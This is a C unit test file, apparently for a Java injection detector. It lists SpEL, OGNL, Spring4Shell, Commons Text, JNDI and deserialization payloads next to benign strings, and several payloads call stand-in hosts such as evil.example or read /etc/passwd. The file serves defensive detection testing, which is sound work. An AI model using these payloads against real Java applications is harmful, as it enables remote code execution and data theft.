#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "detect/detect.h"
#include "lists.h"

/* Caught at LOW (and so at HIGH). */
static const char *const attacks[] = {
    /* SpEL */
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "T(java.lang.Runtime).getRuntime().exec(\"whoami\")",
    "T (java.lang.Runtime).getRuntime().exec(\"whoami\")",
    "T(Runtime).getRuntime().exec('id')",
    "(java.lang.Runtime).getRuntime().exec(\"whoami\")",
    "T(java.lang.ProcessBuilder)",
    "#{new java.lang.ProcessBuilder({'id'}).start()}",
    "${new ProcessBuilder('id').start()}",
    "T(org.springframework.util.ReflectionUtils).findMethod(x,'y')",
    "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    "#{T(java.lang.System).getenv()}",
    "${T(javax.script.ScriptEngineManager).newInstance().getEngineByName('js').eval('1')}",
    "#{new javax.naming.InitialContext().lookup('ldap://evil.example/a')}",
    "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null)}",
    "${\"\".getClass().forName(\"x\")}",
    "${pageContext.request.getClass().getClassLoader()}",
    "#{request.getClass().getClassLoader().loadClass('x')}",
    "${T(java.lang.Class).forName('x')}",
    "${T(java.lang.reflect.Method)}",
    /* OGNL (Struts) */
    "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
    "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm)}",
    "(#context['xwork.MethodAccessor.denyMethodExecution']=false)",
    "@java.lang.Runtime@getRuntime().exec('id')",
    "%{@java.lang.Runtime@getRuntime().exec('id')}",
    "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()}",
    "(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())",
    "${#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS}",
    "@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id'))",
    "('\\u0023_memberAccess[\\'allowStaticMethodAccess\\']')(meh)=true",
    "%{(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))}",
    "${(#_memberAccess['excludedClasses']).clear()}",
    /* Spring4Shell and friends */
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c}i",
    "class.module.classLoader.resources.context.parent.pipeline.first.suffix",
    "class.classLoader.URLs[0]=jar:http://evil.example/x.jar!/",
    "Class.ClassLoader.DefaultAssertionStatus=true",
    "class['classLoader'].resources.dirContext.docBase=/tmp",
    /* Commons Text */
    "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
    "${script:js:1+1}",
    "${url:UTF-8:http://evil.example/}",
    "${dns:address|evil.example}",
    "${file:UTF-8:/etc/passwd}",
    /* deserialization */
    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==",
    "data=rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9u",
    "H4sIAAAAAAAAAJVSvU4bQRDeWeSxGmh5m1Ha",
    "aced0005737200176a6176612e7574696c2e5072696f",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x/a\"}",
    "[\"org.apache.xbean.propertyeditor.JndiConverter\", {\"asText\":\"ldap://x/a\"}]",
    "<java><object class=\"java.lang.ProcessBuilder\"><array "
    "class=\"java.lang.String\"></array></object></java>",
    "<org.apache.commons.collections.functors.InvokerTransformer>",
    "<#assign ex = \"freemarker.template.utility.Execute\"?new()>${ ex(\"id\")}",
    "${T(org.apache.commons.collections.functors.InvokerTransformer)}",
};

/* Caught only at HIGH. */
static const char *const attacks_high[] = {
    "Runtime.getRuntime().exec(\"id\")",
    "new ProcessBuilder(\"sh\", \"-c\", \"id\").start()",
    "spring.cloud.function.routing-expression",
    "${T(java.lang.Math).random()}",
    "#{T(java.lang.Character).toString(105)}",
    "${obj.getClass().getMethod('x').invoke(null)}",
    "{\"@type\":\"java.net.Inet4Address\",\"val\":\"x.example\"}",
};

/* Pass at LOW. */
static const char *const benign[] = {
    "I love Java and the Java runtime",
    "The Runtime class lets you exec processes",
    "Java's Runtime.getRuntime() returns the runtime of the current app",
    "at java.lang.Thread.run(Thread.java:750)",
    "\tat java.lang.reflect.Method.invoke(Method.java:498)",
    "Exception in thread \"main\" java.lang.NullPointerException\n\tat "
    "com.example.app.Main.main(Main.java:12)",
    "Caused by: java.lang.ClassNotFoundException: com.example.Foo\n\tat "
    "java.net.URLClassLoader.findClass(URLClassLoader.java:387)",
    "package com.example.app;",
    "import java.util.List;",
    "import java.lang.reflect.Method;",
    "<groupId>org.apache.commons</groupId><artifactId>commons-collections4</artifactId>",
    "org.springframework.boot:spring-boot-starter-web:3.2.0",
    "com.fasterxml.jackson.core:jackson-databind:2.15.2",
    "implementation 'org.apache.logging.log4j:log4j-core:2.17.1'",
    "```java\nProcess p = Runtime.getRuntime().exec(cmd);\n```",
    "Use `Class.forName(\"com.mysql.cj.jdbc.Driver\")` to load the driver",
    "Hello ${name}, welcome",
    "#{user.firstName} #{user.lastName}",
    "*{title}",
    "th:text=\"${#dates.format(today, 'dd-MM-yyyy')}\"",
    "${order.total} ${#numbers.formatDecimal(price, 1, 2)}",
    "<h1 th:text=\"#{home.welcome}\">Welcome</h1>",
    "%{USER}% and %{HOME}",
    "Ruby: \"Hello #{user.name}\"",
    "`${regex.exec(line)}`",
    "T(n) = 2T(n/2) + O(n)",
    "T(java) is not a thing",
    "email: alice@example.com, bob@mail.example.org",
    "@Override public String toString()",
    "@SpringBootApplication\npublic class App {}",
    "the classloader loads classes lazily",
    "myClassLoader.loadClass(name)",
    "class.name=warning",
    "rO0 is not base64 magic; neither is rO0A",
    "H4sIA is short",
    "aced0005 alone",
    "0xACED is a magic number",
    "{\"@type\":\"Person\",\"name\":\"Alice\"}",
    "[\"a\", \"b\", \"c\"]",
    "<object data=\"movie.swf\"></object>",
    "<java version=\"1.8\">",
    "The price is $5 (about 4 EUR)",
    "Markdown **bold** [link](https://example.com) (see also)",
    "SELECT * FROM t WHERE (a = 1)",
    "f(x) = (x+1)(x-1)",
    "${server.port:8080}",
    "${{ secrets.TOKEN }}",
    "Java deserialization is dangerous; avoid ObjectInputStream on untrusted data",
};

static void attacks_detected_low(void **state)
{
	(void)state;
	check_list(sk_detect_java, attacks, COUNT(attacks), 0, true);
	check_list(sk_detect_java, attacks, COUNT(attacks), 1, true);
}

static void high_only(void **state)
{
	(void)state;
	check_list(sk_detect_java, attacks_high, COUNT(attacks_high), 1, true);
	check_list(sk_detect_java, attacks_high, COUNT(attacks_high), 0, false);
}

static void benign_passes(void **state)
{
	(void)state;
	check_list(sk_detect_java, benign, COUNT(benign), 0, false);
}

static void binary_stream(void **state)
{
	(void)state;
	static const uint8_t ser[] = {0xac, 0xed, 0x00, 0x05, 0x73, 0x72, 0x00, 0x11, 'j', 'a'};
	sk_detect_match m;
	assert_true(sk_detect_java(ser, sizeof ser, 0, &m));
	assert_int_equal(m.off, 0);
	assert_non_null(strstr(m.reason, "AC ED 00 05"));
	static const uint8_t notser[] = {0xac, 0xed, 0x00, 0x06, 0x73, 0xac, 0xed, 0x00};
	assert_false(sk_detect_java(notser, sizeof notser, 1, NULL));
}

static void reason_and_span(void **state)
{
	(void)state;
	const char *s = "q=${T(java.lang.Runtime).getRuntime().exec('id')}";
	sk_detect_match m;
	assert_true(sk_detect_java((const uint8_t *)s, strlen(s), 0, &m));
	assert_non_null(strstr(m.reason, "java.lang.Runtime"));
	assert_memory_equal(s + m.off, "java.lang.Runtime", 17);
	s = "class.module.classLoader.resources.context.parent.pipeline.first.pattern";
	assert_true(sk_detect_java((const uint8_t *)s, strlen(s), 0, &m));
	assert_int_equal(m.off, 0);
	assert_non_null(strstr(m.reason, "class loader"));
}

static void nul_and_length(void **state)
{
	(void)state;
	assert_false(sk_detect_java((const uint8_t *)"", 0, 0, NULL));
	assert_false(sk_detect_java(NULL, 0, 0, NULL));
	const char *s = "${T(java.lang.Runtime)}";
	assert_false(sk_detect_java((const uint8_t *)s, 8, 0, NULL));
	assert_true(sk_detect_java((const uint8_t *)s, strlen(s), 0, NULL));
	static const uint8_t withnul[] = "${T(java.lang.Run\0time)}";
	assert_false(sk_detect_java(withnul, sizeof withnul - 1, 0, NULL));
}

static void adversarial(void **state)
{
	(void)state;
	size_t n = 1 << 20;
	uint8_t *b = malloc(n);
	assert_non_null(b);
	const char *pat[] = {"${", "(#", "T(", "@a.b@", "<#", "[\"a.b\"", "{", "(", "sl"};
	for (size_t k = 0; k < sizeof pat / sizeof pat[0]; k++) {
		size_t l = strlen(pat[k]);
		for (size_t i = 0; i < n; i++)
			b[i] = (uint8_t)pat[k][i % l];
		assert_false(sk_detect_java(b, n, 1, NULL));
	}
	free(b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(attacks_detected_low), cmocka_unit_test(high_only),
	    cmocka_unit_test(benign_passes),        cmocka_unit_test(binary_stream),
	    cmocka_unit_test(reason_and_span),      cmocka_unit_test(nul_and_length),
	    cmocka_unit_test(adversarial),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
